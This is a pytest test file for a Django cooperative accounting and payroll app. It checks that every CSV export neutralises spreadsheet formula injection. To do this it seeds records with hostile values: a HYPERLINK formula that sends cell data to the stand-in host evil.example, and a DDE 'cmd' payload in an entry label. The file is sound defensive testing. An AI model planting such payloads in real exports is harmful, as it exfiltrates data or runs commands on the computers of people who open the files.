"""Every CSV export goes through perspectives.core.csvexport: no cell a spreadsheet would run as a
formula, whatever names, labels and titles people typed."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import inspect
import io
import re
from pathlib import Path

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from accounting.services import LineInput
from entrepreneurs.models import Entrepreneur, Sector
from payroll.models import PayrollRun
from payroll.services import payroll_run_create
from perspectives.tenancy.context import cooperative_context
from tests.accounting.conftest import build_ledger, post_history
from tests.conftest import World
from tests.payroll.conftest import Payroll, compute_run, payroll  # noqa: F401 (fixture)

REPO = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
# A cell is safe when it starts with none of these, or is a number the writer itself wrote.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(,\d+)?$")


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def hostile(world: World, payroll: Payroll) -> dict[str, str]:  # noqa: F811 (fixture)
    """Cooperative A where the free texts people type start a formula (names, sector, an entry
    label), with a computed payroll run and a small ledger."""
    with cooperative_context(world.coop_a.pk):
        Entrepreneur.objects.filter(pk=payroll.alice.pk).update(last_name=EVIL, first_name="+33 6")
        Entrepreneur.objects.filter(pk=payroll.other.pk).update(last_name="-2+3", first_name="@x")
        Sector.objects.filter(pk=payroll.alice.sector_id).update(name="@SUM(A1:A9)")
        ledger = build_ledger(world.coop_a)
        post_history(ledger)
        ledger.post(
            [
                LineInput("512", debit="10.00", activity=ledger.a1),
                LineInput("411", credit="10.00", activity=ledger.a1, third_party=ledger.customer),
            ],
            journal="BQ",
            date=dt.date(2025, 4, 2),
            label="-1+cmd|' /C calc'!A0",
        )
        run: PayrollRun = payroll_run_create(period=dt.date(2026, 1, 1), created_by=world.carl)
        compute_run(run.pk)
    a1 = ledger.a1.pk
    period = "from=2025-01-01&to=2025-12-31"
    return {
        "entrepreneur_list": "/c/coop-a/entrepreneurs/?format=csv",
        "payroll_run_journal": f"/c/coop-a/payroll/runs/{run.pk}/journal.csv",
        "payroll_run_contributions": f"/c/coop-a/payroll/runs/{run.pk}/contributions.csv",
        "ledger_trial_balance": f"/c/coop-a/accounting/trial-balance/?{period}&format=csv",
        "ledger_general_ledger": f"/c/coop-a/accounting/general-ledger/?{period}&format=csv",
        "ledger_activity_ledger": f"/c/coop-a/accounting/activities/{a1}/ledger/?{period}"
        "&format=csv",
        "ledger_activity_pnl": f"/c/coop-a/accounting/activities/{a1}/pnl/?{period}&format=csv",
        "ledger_activity_treasury": f"/c/coop-a/accounting/activities/{a1}/treasury/"
        "?as_of=2025-12-31&format=csv",
        "bank_vat_return": "/c/coop-a/bank/vat/?from=2025-01-01&to=2025-12-31&format=csv",
        "data_export": "/c/coop-a/exports/?kind=entrepreneurs",
        "funder_statistics": "/c/coop-a/funders/?start=2025-01-01&end=2026-12-31&format=csv",
    }


def test_no_csv_export_has_a_cell_a_spreadsheet_would_run(
    world: World, hostile: dict[str, str], client: Client
) -> None:
    client.force_login(world.carl)  # manager: sees every export
    seen: set[str] = set()
    for name, url in hostile.items():
        response = client.get(url)
        assert response.status_code == 200, name
        assert response["Content-Type"] == "text/csv; charset=utf-8", name
        rows = _cells(response.getvalue())
        assert len(rows) > 1, name
        for row in rows:
            for value in row:
                seen.add(value)
                assert not value.startswith(FORMULA_START) or NUMBER.match(value), (name, value)
    # The hostile texts came out, neutralised.
    assert "'" + EVIL in seen
    assert {"'+33 6", "'-2+3", "'@x", "'@SUM(A1:A9)"} <= seen
    assert "'-1+cmd|' /C calc'!A0" in seen


def test_the_sweep_covers_every_view_that_writes_a_csv(hostile: dict[str, str]) -> None:
    writers: set[str] = set()

    def walk(patterns: list[URLPattern | URLResolver]) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns)
            elif pattern.name and "csv" in inspect.getsource(inspect.unwrap(pattern.callback)):
                writers.add(pattern.name.removesuffix("_pdf"))

    walk(get_resolver().url_patterns)
    # An import template is its header row only: no data to neutralise; a CSV format page reads
    # a bank's sample file and writes none.
    assert writers - HEADER_ONLY - READ_ONLY == set(hostile)


HEADER_ONLY = {"import_template"}
READ_ONLY = {"bank_csv_mapping"}
CSV_READERS = {
    "top/onboarding/imports/tabular.py",
}


def test_only_the_one_writer_imports_the_csv_module() -> None:
    """Any other CSV writer would bypass the neutralisation."""
    importers = []
    for path in REPO.glob("*/**/*.py"):
        relative = path.relative_to(REPO)
        if relative.parts[0] in {".venv", "var", "tests"} or "migrations" in relative.parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names = (
                [alias.name for alias in node.names]
                if isinstance(node, ast.Import)
                else [node.module or ""]
                if isinstance(node, ast.ImportFrom)
                else []
            )
            if "csv" in names:
                importers.append(str(relative))
    # Files that only read CSV (imports) may use the module; none of them writes with it.
    readers = [path for path in importers if path in CSV_READERS]
    for reader in readers:
        source = (REPO / reader).read_text(encoding="utf-8")
        assert "csv.writer" not in source, reader
        assert "DictWriter" not in source, reader
    assert sorted(set(importers) - set(readers)) == ["perspectives/core/csvexport.py"]


AMOUNT = re.compile(r"^-?\d+,\d{2}$")
FRENCH_DATE = re.compile(r"\b\d{1,2}/\d{1,2}/\d{4}\b")
REPORTS = (
    "payroll_run_journal",
    "payroll_run_contributions",
    "ledger_trial_balance",
    "ledger_general_ledger",
    "ledger_activity_ledger",
    "ledger_activity_pnl",
    "ledger_activity_treasury",
    "bank_vat_return",
)


def test_amount_columns_say_euros_and_dates_are_iso(
    world: World, hostile: dict[str, str], client: Client
) -> None:
    client.force_login(world.carl)
    for name, url in hostile.items():
        header, *rows = _cells(client.get(url).getvalue())
        assert [v for row in rows for v in row if FRENCH_DATE.search(v)] == [], name
        if name not in REPORTS:
            continue
        amounts = {
            index
            for index in range(len(header))
            if any(row[index] for row in rows)
            and all(AMOUNT.match(row[index]) for row in rows if row[index])
        }
        in_euros = {index for index, label in enumerate(header) if label.endswith(" (€)")}
        assert amounts <= in_euros, (name, header)
        assert in_euros, name
